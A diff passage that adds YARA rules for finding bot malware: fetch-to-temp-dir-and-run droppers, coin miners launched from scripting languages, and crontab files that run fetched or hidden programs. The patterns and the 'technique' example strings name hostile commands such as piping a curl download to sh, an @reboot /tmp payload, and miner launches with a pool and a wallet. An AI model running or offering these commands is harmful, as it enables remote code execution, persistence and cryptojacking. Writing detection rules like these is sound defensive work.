+        $f = /\b(wget|curl|fetch|tftp|ftpget|lwp-download)\s{1,4}[-"'$\w]|\b(file_get_contents|copy|fopen|curl_init)\s{0,2}\(\s{0,2}(['"](https?|ftp):\/\/|\$\w{1,30}\s{0,2}[,)])|\b(urlopen|urlretrieve|getstore|mirror)\s{0,2}\(|\brequests\.get\s{0,2}\(|:content_file\b|\bhttps?\.get\s{0,2}\(\s{0,2}['"`]|\bLWP::UserAgent\b|\bHTTP::Tiny\b|\bLWP::Simple\b/
+        $tm = /\/(tmp|var\/tmp|dev\/shm)\b|\bsys_get_temp_dir\s{0,2}\(|\btempfile\.|\bmktemp\b/
+        // shell chmod +x / 755, PHP chmod($f, 0755), Perl chmod 0755, $f, os.chmod(p, 0o755 | S_IEXEC)
+        $cx = /\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\b|\bchmod\s{0,2}\(\s{0,2}[^,\n]{1,80},\s{0,2}0?[0-7]?[1357][0-7]{2}\s{0,2}\)|\bos\.chmod\s{0,2}\([^\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|\b(493|511|365)\b)|\bchmodSync\s{0,2}\([^\n]{1,80}(0o[0-7]?[1357][0-7]{2}\b|\b(493|511)\b)/
+        // started detached: nohup, setsid, Popen, output thrown away, a trailing &
+        $rn1 = /\b(nohup|setsid)\s|\bPopen\s{0,2}\(|\bstart_new_session\b|>\s{0,2}\/dev\/null|\bdetached\s{0,2}:\s{0,2}true\b/
+        $rn2 = " &\n" ascii
+        $rn3 = " &'" ascii
+        $rn4 = " &\"" ascii
+        // or simply run: the saved path at the start of a line, or a command
+        // function on a variable (PHP, Python)
+        $rn5 = /(\n|;|&&)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?(\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[\w.\/-]{1,80}/
+        // the variable just made executable, run on the next command: chmod +x "$F"; "$F"
+        $rn7 = /\bchmod\s{1,4}[^\n;&|]{1,40}(\n|;|&&)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?["']?\$\{?\w{1,30}\}?["']?\s{0,4}(\n|;|&|>|$)/
+        // or an interpreter started on the saved file (no exec bit needed), detached or removed after
+        $ip = /\b(perl|python[0-9.]{0,4}|php[0-9.]{0,3}|ruby|(ba|da)?sh)\s{1,4}["']?(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/
+        $rm = /\brm\s{1,4}-[rf]{1,2}\s|\bunlink\s{0,2}\(|\bos\.(remove|unlink)\s{0,2}\(/
+        $rn6 = /\b(system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s{0,2}\(\s{0,2}(\$\w{1,30}\s{0,2}[),.]|['"](\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/))|\bsubprocess\.(call|run|check_call|check_output)\s{0,2}\(\s{0,2}\[?\s{0,2}([a-zA-Z_]|['"](\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/))|\bos\.(system|exec\w{1,3}|spawn\w{1,3})\s{0,2}\(\s{0,2}[a-zA-Z_]/
+        // a verified download is a deployment step
+        $ck = /\b(sha(1|224|256|384|512)sum|shasum|md5sum|b2sum|hashlib|hash_file|Digest::SHA|minisign|signify)\b|\bgpg\s{1,4}(--verify|--batch\s{1,4}--verify)\b|\bopenssl\s{1,4}dgst\b|\bcosign\s{1,4}verify\b/
+    condition:
+        filesize < 1MB and not hs_doc_file and not $ck and
+        for any i in (1..#f) : (
+            $tm in (@f[i] - 300 .. @f[i] + 400) and (
+                ($cx in (@f[i] .. @f[i] + 800) and for any of ($rn*) : ( $ in (@f[i] .. @f[i] + 1200) ))
+                or ($ip in (@f[i] .. @f[i] + 800) and (for any of ($rn1, $rn2, $rn3, $rn4) : ( $ in (@f[i] .. @f[i] + 1200) ) or
+                    $rm in (@f[i] .. @f[i] + 1200))) ) )
+}
+
+/* A coin miner started from PHP, Python or Perl code (bot_miner_launcher
+ * reads shell): a pool address and a wallet handed to a program the code
+ * starts. */
+rule bot_miner_launch_code : bot
+{
+    meta:
+        description = "Coin miner started from PHP/Python/Perl code: a mining pool and a wallet passed to a started program"
+        severity = "high"
+        technique = "exec('nohup ./x -o stratum+tcp://pool:3333 -u WALLET &'); subprocess.Popen(['./x', '-o', 'pool:3333', '-u', WALLET]); --url=POOL --user=WALLET"
+        seen = "none"
+    strings:
+        $p1 = /stratum[0-9]?\+(tcp|ssl|tls):\/\//
+        $p2 = /['"]-o['"]\s{0,2},\s{0,2}['"][\w.\/+-]{1,80}:[0-9]{2,5}['"]/
+        $p3 = /\s-o\s{1,4}['"]?[\w.\/+-]{1,80}:[0-9]{2,5}\b/
+        $p4 = /--url[= ]['"]?[\w.\/+-]{1,80}:[0-9]{2,5}\b/
+        // a wallet: a long address after the user option
+        $w1 = /(\s-u\s{1,4}|['"]-u['"]\s{0,2},\s{0,2}|--user[= ])['"]?[0-9A-Za-z]{40}/
+        // or the wallet in a variable: ' -u ' . $w, "-u", wallet
+        $w2 = /\s-u\s{1,4}['"]\s{0,2}[.+]\s{0,2}\$?[a-zA-Z_]|['"]-u['"]\s{0,2},\s{0,2}\$?[a-zA-Z_]/
+        $x1 = /\b(exec|shell_exec|system|passthru|popen|proc_open)\s{0,2}\(/
+        $x2 = /\bsubprocess\.\w{1,16}\s{0,2}\(|\bos\.(system|popen|spawn\w{0,3}|exec\w{0,3})\s{0,2}\(/
+    condition:
+        filesize < 1MB and not hs_doc_file and any of ($p*) and any of ($w*) and any of ($x*)
+}
+
+/* A crontab itself (a file of schedule lines, dropped for `crontab FILE` or
+ * into a spool) whose line runs a fetch into a shell, a temp-dir or a dot
+ * path: the same payload test as bot_cron_install_payload, for a file that
+ * starts with a schedule line (after comments and variable lines). */
+rule bot_crontab_file_payload : bot
+{
+    meta:
+        description = "Crontab file whose schedule line runs a fetched, temp-dir or hidden program"
+        severity = "high"
+        technique = "*/5 * * * * curl -fsSL http://H/s | sh; @reboot /tmp/.x; * * * * * cd /dev/shm && ./.k, as a file"
+        seen = "none"
+    strings:
+        // a schedule at the start of a line: five fields or an @keyword
+        $ln = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly|midnight)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}[^\n]{0,200}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\b|\/\.[\w-]{1,30}([ \t]|["';&>)|]|\n|$)|\b(curl|wget|fetch)\s[^\n|]{1,200}\|\s{0,4}((ba|da|z)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3})\b)/
+        $tag = "<?" ascii
+    condition:
+        filesize < 16KB and not hs_doc_file and not hs_shebang and not $tag and
+        not hs_lang_shell and not hs_lang_perl and not hs_lang_python and $ln and
+        // the file starts with a comment or a schedule ('#', '@', '*', a digit)
+        (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or (uint8(0) >= 0x30 and uint8(0) <= 0x39))
 }
